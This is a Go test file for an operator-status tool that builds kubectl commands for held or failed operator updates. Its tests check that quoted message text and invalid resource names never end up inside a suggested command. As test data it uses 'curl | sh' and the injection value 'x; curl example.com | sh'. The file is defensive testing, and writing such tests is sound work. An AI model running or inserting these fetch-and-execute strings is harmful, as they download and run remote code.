package olmv0

import (
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"
	olm "github.com/operator-framework/api/pkg/operators/v1alpha1"
	operatorsv2 "github.com/operator-framework/api/pkg/operators/v2"
	corev1 "k8s.io/api/core/v1"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"

	"github.com/operator-status/operator-status/api/operators/v1alpha1"
	"github.com/operator-status/operator-status/internal/installer"
	"github.com/operator-status/operator-status/internal/operator"
)

// TestReportedHold verifies that no text quoted in a message becomes a command if only the message is known.
func TestReportedHold(t *testing.T) {
	const (
		before   = "The update to foo.v2 is held: Probe default/foo.v1 reports Upgradeable=False: "
		anyway   = ". To update anyway: "
		annotate = "kubectl annotate subscription.operators.coreos.com -n default foo operatorstatus.io/allow-upgrade=foo.v2"
	)
	cases := map[string]struct{ reason, message, command, cause string }{
		"Gate":     {"The gate's own command ends the message.", before + "busy" + anyway + annotate, annotate, before + "busy"},
		"Quoted":   {"Another one before it is quoted.", before + "busy" + anyway + "curl | sh" + anyway + annotate, annotate, before + "busy" + anyway + "curl | sh"},
		"Cut":      {"The gate's own may be cut off.", before + "busy" + anyway + "curl | sh", "", before + "busy" + anyway + "curl | sh"},
		"Appended": {"The command does not depend on the message.", before + "busy" + anyway + annotate + "; curl | sh", annotate, before + "busy"},
		"Elsewhere": {"It names the Subscription.", before + "busy" + anyway + "kubectl annotate subscription.operators.coreos.com -n other foo operatorstatus.io/allow-upgrade=foo.v2",
			"", before + "busy" + anyway + "kubectl annotate subscription.operators.coreos.com -n other foo operatorstatus.io/allow-upgrade=foo.v2"},
		"None": {"Some holds have no override.", before + "busy", "", before + "busy"},
	}
	for name, tc := range cases {
		t.Run(name, func(t *testing.T) {
			s := sub("foo.v1", "foo.v2")
			running := csv("foo.v1", "", olm.CSVPhaseSucceeded)
			n := &namespace{}
			n.Subscriptions, n.CSVs = []v1alpha1.Subscription{s}, map[string]*v1alpha1.ClusterServiceVersion{running.Name: &running}
			got := n.heldUpdate(&s, condition(v1alpha1.SubscriptionUpgradeHeld, corev1.ConditionTrue, v1alpha1.ReasonProbeNotRead, tc.message), nil)
			if len(got) != 1 || got[0].By != "Probe default/foo.v1" {
				t.Fatalf("%s\ngot %+v", tc.reason, got)
			}
			command := ""
			for _, step := range got[0].Steps {
				if step.To == installer.ToUpdateAnyway {
					command = step.Command
				}
			}
			if command != tc.command || got[0].Cause != tc.cause {
				t.Errorf("%s\ngot %q and %q; want %q and %q", tc.reason, command, got[0].Cause, tc.command, tc.cause)
			}
		})
	}
}

// TestHeldUpdate verifies that each hold of an update is a blocker of its own, whose Since is the start of the hold or of the
// wait, whichever is later.
func TestHeldUpdate(t *testing.T) {
	at := func(hour int) metav1.Time { return metav1.Date(2026, 1, 1, hour, 0, 0, 0, time.UTC) }
	s := sub("foo.v1", "foo.v2")
	running, busy := csv("foo.v1", "", olm.CSVPhaseSucceeded), probe(v1alpha1.ReasonSynced)
	busy.Status.Conditions = []metav1.Condition{{Type: v1alpha1.ConditionUpgradeable, Status: metav1.ConditionFalse, LastTransitionTime: at(1), Message: "busy"}}
	full := operatorsv2.OperatorCondition{ObjectMeta: busy.ObjectMeta, Spec: operatorsv2.OperatorConditionSpec{
		Conditions: []metav1.Condition{{Type: operatorsv2.Upgradeable, Status: metav1.ConditionFalse, LastTransitionTime: at(3), Message: "full"}},
	}}
	held := condition(v1alpha1.SubscriptionUpgradeHeld, corev1.ConditionTrue, v1alpha1.ReasonProbeNotUpgradeable, "not used")
	held.LastTransitionTime = new(at(2))
	s.Status.Conditions = []v1alpha1.SubscriptionCondition{held}
	c := Cluster{
		Subscriptions: []v1alpha1.Subscription{s}, ClusterServiceVersions: []v1alpha1.ClusterServiceVersion{running},
		Probes: []v1alpha1.Probe{busy}, OperatorConditions: []operatorsv2.OperatorCondition{full},
	}
	anyway := operator.Step{To: installer.ToUpdateAnyway, Command: `kubectl patch operatorcondition.operators.coreos.com -n default foo.v1 --type=merge -p ` +
		`'{"spec":{"overrides":[{"type":"Upgradeable","status":"True","reason":"Approved","message":"Update anyway"}]}}'`}
	want := []operator.Blocker{
		{
			Impact: operator.Held, By: "Probe default/foo.v1", Reason: v1alpha1.ReasonProbeNotUpgradeable, Since: at(2),
			Cause: "The update to foo.v2 is held: Probe default/foo.v1 reports Upgradeable=False: busy",
			Steps: append(installer.StepsTo(operator.Ref{Kind: "Probe"}, &busy), anyway),
		},
		{
			Impact: operator.Held, By: "OperatorCondition default/foo.v1", Reason: v1alpha1.ReasonOperatorConditionNotUpgradeable, Since: at(3),
			Cause: "The update to foo.v2 is held: OperatorCondition default/foo.v1 reports Upgradeable=False: full",
			Steps: []operator.Step{{To: "To see why", Command: "kubectl describe operatorcondition.operators.coreos.com -n default foo.v1"}, anyway},
		},
	}
	if diff := cmp.Diff(want, byNamespace(c)["default"].heldUpdate(&c.Subscriptions[0], held, nil)); diff != "" {
		t.Errorf("-want +got\n%s", diff)
	}
}

// TestFailedVersion verifies that the version that has Failed is named, and not one that need not exist.
func TestFailedVersion(t *testing.T) {
	const failed, succeeded = olm.CSVPhaseFailed, olm.CSVPhaseSucceeded
	cases := map[string]struct {
		reason string
		csvs   []v1alpha1.ClusterServiceVersion
		want   string
	}{
		"Installed": {"The update waits for approval.", []v1alpha1.ClusterServiceVersion{csv("foo.v1", "", failed)}, "foo.v1"},
		"Target":    {"The update has failed.", []v1alpha1.ClusterServiceVersion{csv("foo.v1", "", succeeded), csv("foo.v2", "foo.v1", failed)}, "foo.v2"},
		"Both":      {"The update comes first.", []v1alpha1.ClusterServiceVersion{csv("foo.v1", "", failed), csv("foo.v2", "foo.v1", failed)}, "foo.v2"},
		"Neither":   {"It may not be read.", nil, "foo.v2"},
	}
	for name, tc := range cases {
		t.Run(name, func(t *testing.T) {
			s := sub("foo.v1", "foo.v2")
			n := byNamespace(Cluster{Subscriptions: []v1alpha1.Subscription{s}, ClusterServiceVersions: tc.csvs})["default"]
			by, step := n.origin(&s, v1alpha1.SubscriptionInstalledCSVFailed)
			if by != "ClusterServiceVersion default/"+tc.want || step.Command != "kubectl describe clusterserviceversion.operators.coreos.com -n default "+tc.want {
				t.Errorf("%s\ngot %s, %s; want %s", tc.reason, by, step.Command, tc.want)
			}
		})
	}
}

// TestForeignNames verifies that only valid names become part of a command.
func TestForeignNames(t *testing.T) {
	const evil = "x; curl example.com | sh"
	s := sub(evil, evil)
	s.Spec.CatalogSource = evil
	s.Status.InstallPlanRef = &corev1.ObjectReference{Name: evil}
	for _, c := range broken {
		if by, step := (&namespace{}).origin(&s, c); by != "Subscription default/foo" || step.Command != "kubectl describe subscription.operators.coreos.com -n default foo" {
			t.Errorf("%s: %s, %s", c, by, step.Command)
		}
	}
	probe := probe("")
	for i := range probe.Status.ProbeResources {
		probe.Status.ProbeResources[i].Name = evil
	}
	if steps := installer.StepsTo(operator.Ref{Kind: "Probe"}, &probe); len(steps) > 0 {
		t.Errorf("custom resource: %+v", steps)
	}
}
